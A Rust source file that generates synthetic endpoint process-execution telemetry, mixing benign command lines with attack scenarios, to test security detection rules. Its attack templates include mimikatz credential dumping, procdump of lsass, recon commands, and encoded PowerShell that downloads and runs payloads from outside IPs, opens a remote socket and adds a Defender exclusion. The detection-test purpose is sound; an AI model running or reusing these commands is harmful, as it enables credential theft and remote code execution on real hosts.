//! Endpoint (EDR) process-execution telemetry.
//!
//! Emits the union of the endpoint schemas in the seeds: the first RisingWave pipeline's
//! `endpoint_events` (`event_time, host_id, process_name, parent_pid, child_pid,
//! command_line, user_name, sha256_hash`) and the second's `process_events`
//! (`event_id, host_id, parent_pid, child_pid, process_name, command_line, event_time`).
//!
//! Benign command lines never contain the strings the detection rules look for
//! (`-EncodedCommand`, `whoami`, `net user`, `net localgroup`, `mimikatz`, `procdump`);
//! only the attack scenarios do. `sha256_hash` is a fixed function of the binary name.

use super::auth::BURST_SPACING;
use super::json::{ObjectWriter, TimestampFormatter};
use super::schedule::{Cadence, Rng};
use super::world::{mix64, world, Tier, World};

/// Encoded-PowerShell executions per 10,000 endpoint events: `powershell.exe ...
/// -EncodedCommand <base64>` on a tier-1 Windows host (fires `alert_suspicious_process`).
pub const ENDPOINT_ENCODED_POWERSHELL_PER_10K: u32 = 5;
/// Recon chains started per 10,000 endpoint events: [`ENDPOINT_RECON_CHAIN_LEN`]
/// commands (`whoami`, `net user`, `net localgroup administrators`, `mimikatz`,
/// `procdump`) run by `cmd.exe`/`powershell.exe`/`bash`/`sh` on one host under one parent
/// (fires `suspicious_process_chains` once per command).
pub const ENDPOINT_RECON_PER_10K: u32 = 5;
/// Commands in one recon chain.
pub const ENDPOINT_RECON_CHAIN_LEN: u32 = 3;

/// `(process_name, command_line, user)`; `None` user = the host's primary user.
type Template = (&'static str, &'static str, Option<&'static str>);

const WINDOWS_BENIGN: [Template; 16] = [
    (
        "svchost.exe",
        r"C:\Windows\System32\svchost.exe -k netsvcs -p -s Schedule",
        Some("SYSTEM"),
    ),
    (
        "svchost.exe",
        r"C:\Windows\System32\svchost.exe -k LocalServiceNetworkRestricted -p",
        Some("LOCAL SERVICE"),
    ),
    (
        "chrome.exe",
        r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US"#,
        None,
    ),
    (
        "msedge.exe",
        r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --single-argument https://intranet.corp.example/"#,
        None,
    ),
    (
        "OUTLOOK.EXE",
        r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE""#,
        None,
    ),
    (
        "EXCEL.EXE",
        r#""C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "C:\Users\Public\Documents\Q3-forecast.xlsx""#,
        None,
    ),
    (
        "Teams.exe",
        r#""C:\Program Files\WindowsApps\MSTeams\ms-teams.exe" --process-start-type=background"#,
        None,
    ),
    ("explorer.exe", r"C:\Windows\explorer.exe", None),
    (
        "MsMpEng.exe",
        r#""C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MsMpEng.exe""#,
        Some("SYSTEM"),
    ),
    (
        "powershell.exe",
        r"powershell.exe -NoProfile -ExecutionPolicy RemoteSigned -File C:\Scripts\Get-DiskUsage.ps1",
        None,
    ),
    ("cmd.exe", r"cmd.exe /c dir C:\Reports\*.pdf", None),
    (
        "cmd.exe",
        r#"cmd.exe /c "C:\Program Files\Backup\run-nightly.bat""#,
        Some("svc_backup"),
    ),
    (
        "conhost.exe",
        r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
        None,
    ),
    (
        "notepad.exe",
        r"C:\Windows\System32\notepad.exe C:\Users\Public\notes.txt",
        None,
    ),
    ("taskhostw.exe", r"taskhostw.exe", None),
    (
        "OneDrive.exe",
        r#""C:\Program Files\Microsoft OneDrive\OneDrive.exe" /background"#,
        None,
    ),
];

const LINUX_BENIGN: [Template; 13] = [
    ("sshd", "/usr/sbin/sshd -D", Some("root")),
    ("sshd", "sshd: deploy [priv]", Some("root")),
    ("cron", "/usr/sbin/cron -f", Some("root")),
    ("python3", "python3 /opt/app/worker.py --queue default", Some("svc_app")),
    (
        "java",
        "java -Xmx2g -jar /opt/app/service.jar --spring.profiles.active=prod",
        Some("svc_app"),
    ),
    ("nginx", "nginx: worker process", Some("www-data")),
    ("bash", "bash /opt/scripts/rotate-logs.sh", Some("root")),
    ("sh", "sh -c /usr/lib/apt/apt.systemd.daily", Some("root")),
    ("postgres", "postgres: checkpointer", Some("postgres")),
    ("node", "node /srv/api/server.js", Some("svc_app")),
    ("logrotate", "/usr/sbin/logrotate /etc/logrotate.conf", Some("root")),
    ("git", "git fetch --prune origin", None),
    ("tar", "tar -czf /backup/app-logs.tar.gz /var/log/app", Some("root")),
];

const WINDOWS_RECON: [(&str, &str); 6] = [
    ("cmd.exe", "cmd.exe /c whoami /all"),
    ("cmd.exe", "cmd.exe /c net user /domain"),
    ("cmd.exe", "cmd.exe /c net localgroup administrators"),
    (
        "powershell.exe",
        r#"powershell.exe -NoP -c "net user administrator /domain; whoami /groups""#,
    ),
    (
        "cmd.exe",
        r#"cmd.exe /c C:\Users\Public\mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit"#,
    ),
    (
        "cmd.exe",
        r"cmd.exe /c C:\Users\Public\procdump.exe -accepteula -ma lsass.exe C:\Windows\Temp\lsass.dmp",
    ),
];

const LINUX_RECON: [(&str, &str); 3] = [
    ("bash", "bash -c whoami"),
    ("sh", "sh -c 'whoami; id; uname -a'"),
    ("bash", "bash -c 'cat /etc/passwd; whoami'"),
];

/// Scripts an attacker runs through `-EncodedCommand` (UTF-16LE, then base64).
const ENCODED_SCRIPTS: [&str; 4] = [
    "IEX (New-Object Net.WebClient).DownloadString('http://185.220.101.7/stage2.ps1')",
    "$c=New-Object Net.Sockets.TCPClient('45.128.3.9',443);$s=$c.GetStream()",
    r"Invoke-WebRequest -Uri http://185.220.7.77/p.exe -OutFile $env:TEMP\svc.exe; Start-Process $env:TEMP\svc.exe",
    r"Add-MpPreference -ExclusionPath C:\ProgramData\Updater",
];
const ENCODED_PREFIXES: [&str; 2] = [
    "powershell.exe -NoP -NonI -W Hidden -EncodedCommand ",
    "powershell.exe -ExecutionPolicy Bypass -WindowStyle Hidden -EncodedCommand ",
];

/// Standard base64 (with padding) of `bytes`.
pub(crate) fn base64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::with_capacity(bytes.len().div_ceil(3) * 4);
    for chunk in bytes.chunks(3) {
        let b = [
            chunk[0],
            chunk.get(1).copied().unwrap_or(0),
            chunk.get(2).copied().unwrap_or(0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for k in 0..4 {
            if k <= chunk.len() {
                out.push(ALPHABET[((n >> (18 - 6 * k)) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// What PowerShell's `-EncodedCommand` expects: base64 of the UTF-16LE script.
fn encode_powershell(script: &str) -> String {
    let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    base64(&utf16)
}

/// A fixed, realistic-looking SHA-256 for a binary name.
fn fake_sha256(binary: &str) -> String {
    let mut h = 0xCBF2_9CE4_8422_2325u64;
    for b in binary.bytes() {
        h = (h ^ u64::from(b)).wrapping_mul(0x0100_0000_01B3);
    }
    let mut out = String::with_capacity(64);
    for k in 0..4u64 {
        super::json::push_hex(&mut out, mix64(h ^ k), 16);
    }
    out
}

/// What one event describes.
#[derive(Debug, Clone, Copy)]
struct Exec<'a> {
    host: usize,
    process: &'static str,
    command: &'a str,
    user: &'a str,
    parent_pid: u64,
    child_pid: u64,
}

#[derive(Debug, Clone, Copy)]
struct ReconChain {
    due: u64,
    host: usize,
    parent_pid: u64,
    next_pid: u64,
    next_cmd: usize,
    remaining: u32,
}

/// Generator state for endpoint events.
#[derive(Debug)]
pub(crate) struct EndpointGenerator {
    world: &'static World,
    rng: Rng,
    seq: u64,
    ts: TimestampFormatter,
    encoded: Cadence,
    recon: Cadence,
    chains: Vec<ReconChain>,
    /// Full encoded-PowerShell command lines.
    encoded_commands: Vec<String>,
    /// `(process_name, sha256)` for every binary we emit.
    hashes: Vec<(&'static str, String)>,
    /// Host index ranges per tier: `[tier1, tier2, tier3)` boundaries.
    tier_bounds: [usize; 3],
}

impl EndpointGenerator {
    pub fn new(seed: u64) -> Self {
        let mut rng = Rng::new(seed, 3);
        let world = world();
        let encoded_commands = ENCODED_PREFIXES
            .iter()
            .flat_map(|p| {
                ENCODED_SCRIPTS
                    .iter()
                    .map(move |s| format!("{p}{}", encode_powershell(s)))
            })
            .collect();
        let mut hashes: Vec<(&'static str, String)> = Vec::new();
        let names = WINDOWS_BENIGN
            .iter()
            .chain(LINUX_BENIGN.iter())
            .map(|t| t.0)
            .chain(WINDOWS_RECON.iter().chain(LINUX_RECON.iter()).map(|t| t.0));
        for name in names {
            if !hashes.iter().any(|(n, _)| *n == name) {
                hashes.push((name, fake_sha256(name)));
            }
        }
        let count = |t: Tier| world.hosts.iter().filter(|h| h.tier == t).count();
        let (t1, t2) = (count(Tier::One), count(Tier::Two));
        debug_assert!(world.hosts[..t1].iter().all(|h| h.tier == Tier::One));
        debug_assert!(world.hosts[t1..t1 + t2].iter().all(|h| h.tier == Tier::Two));
        EndpointGenerator {
            world,
            encoded: Cadence::new(ENDPOINT_ENCODED_POWERSHELL_PER_10K, &mut rng),
            recon: Cadence::new(ENDPOINT_RECON_PER_10K, &mut rng),
            rng,
            seq: 0,
            ts: TimestampFormatter::default(),
            chains: Vec::with_capacity(2),
            encoded_commands,
            hashes,
            tier_bounds: [t1, t1 + t2, world.hosts.len()],
        }
    }

    fn sha256_of<'h>(hashes: &'h [(&'static str, String)], process: &str) -> &'h str {
        hashes
            .iter()
            .find(|(n, _)| *n == process)
            .map(|(_, h)| h.as_str())
            .unwrap_or("")
    }

    fn pick_host(&mut self) -> usize {
        let [t1, t2, t3] = self.tier_bounds;
        let r = self.rng.below(100);
        let (lo, hi) = match r {
            0..=7 => (0, t1),
            8..=29 => (t1, t2),
            _ => (t2, t3),
        };
        lo + self.rng.index(hi - lo)
    }

    fn recon_step(&mut self, i: usize) -> Exec<'static> {
        let world = self.world;
        let c = &mut self.chains[i];
        let host = &world.hosts[c.host];
        let (process, command) = if host.windows {
            WINDOWS_RECON[c.next_cmd % WINDOWS_RECON.len()]
        } else {
            LINUX_RECON[c.next_cmd % LINUX_RECON.len()]
        };
        let exec = Exec {
            host: c.host,
            process,
            command,
            user: &world.users[host.primary_user].name,
            parent_pid: c.parent_pid,
            child_pid: c.next_pid,
        };
        c.next_cmd += 1;
        c.next_pid += 4;
        c.remaining -= 1;
        c.due = self.seq + BURST_SPACING;
        if c.remaining == 0 {
            self.chains.swap_remove(i);
        }
        exec
    }

    /// Appends the next event to `out`.
    pub fn write_next(&mut self, event_time_us: i64, out: &mut String) {
        let seq = self.seq;
        let world = self.world;
        let mut encoded_idx = None;
        let exec = if let Some(i) = self.chains.iter().position(|c| c.due <= seq) {
            self.recon_step(i)
        } else if self.encoded.due(seq) {
            self.encoded.started(seq, &mut self.rng);
            let host = *self.rng.pick(&world.tier1_windows);
            encoded_idx = Some(self.rng.index(self.encoded_commands.len()));
            Exec {
                host,
                process: "powershell.exe",
                command: "",
                user: &world.users[world.hosts[host].primary_user].name,
                parent_pid: self.rng.range(300, 9_999),
                child_pid: self.rng.range(1_000, 65_535),
            }
        } else if self.recon.due(seq) {
            self.recon.started(seq, &mut self.rng);
            let host = self.rng.index(world.hosts.len());
            let parent_pid = self.rng.range(300, 9_999);
            let next_pid = self.rng.range(1_000, 60_000);
            let next_cmd = self.rng.index(WINDOWS_RECON.len() * LINUX_RECON.len());
            self.chains.push(ReconChain {
                due: seq,
                host,
                parent_pid,
                next_pid,
                next_cmd,
                remaining: ENDPOINT_RECON_CHAIN_LEN,
            });
            self.recon_step(self.chains.len() - 1)
        } else {
            let host = self.pick_host();
            let h = &world.hosts[host];
            let &(process, command, user) = if h.windows {
                self.rng.pick(&WINDOWS_BENIGN)
            } else {
                self.rng.pick(&LINUX_BENIGN)
            };
            Exec {
                host,
                process,
                command,
                user: user.unwrap_or(&world.users[h.primary_user].name),
                parent_pid: self.rng.range(300, 9_999),
                child_pid: self.rng.range(1_000, 65_535),
            }
        };
        self.seq += 1;
        let (id_hi, id_lo) = (self.rng.u64(), self.rng.u64());
        let command = match encoded_idx {
            Some(i) => self.encoded_commands[i].as_str(),
            None => exec.command,
        };
        let sha = Self::sha256_of(&self.hashes, exec.process);
        let ts = self.ts.format(event_time_us);
        let mut w = ObjectWriter::new(out);
        w.str("event_time", ts);
        w.uuid("event_id", id_hi, id_lo);
        w.str("host_id", &world.hosts[exec.host].id);
        w.str("process_name", exec.process);
        w.uint("parent_pid", exec.parent_pid);
        w.uint("child_pid", exec.child_pid);
        w.str("command_line", command);
        w.str("user_name", exec.user);
        w.str("sha256_hash", sha);
        w.finish();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn base64_matches_known_vectors() {
        for (input, expected) in [
            ("", ""),
            ("f", "Zg=="),
            ("fo", "Zm8="),
            ("foo", "Zm9v"),
            ("foobar", "Zm9vYmFy"),
        ] {
            assert_eq!(base64(input.as_bytes()), expected);
        }
        // PowerShell's own encoding of "whoami".
        assert_eq!(encode_powershell("whoami"), "dwBoAG8AYQBtAGkA");
    }

    #[test]
    fn benign_templates_do_not_trip_detections() {
        let needles = [
            "whoami",
            "net user",
            "net localgroup",
            "mimikatz",
            "procdump",
            "-encodedcommand",
        ];
        for (_, cmd, _) in WINDOWS_BENIGN.iter().chain(LINUX_BENIGN.iter()) {
            let lower = cmd.to_lowercase();
            for n in needles {
                assert!(!lower.contains(n), "{cmd} contains {n}");
            }
        }
        // Encoded payloads must not look like recon by accident.
        let g = EndpointGenerator::new(0);
        for c in &g.encoded_commands {
            for n in &needles[..5] {
                assert!(!c.contains(n), "{c}");
            }
        }
    }
}
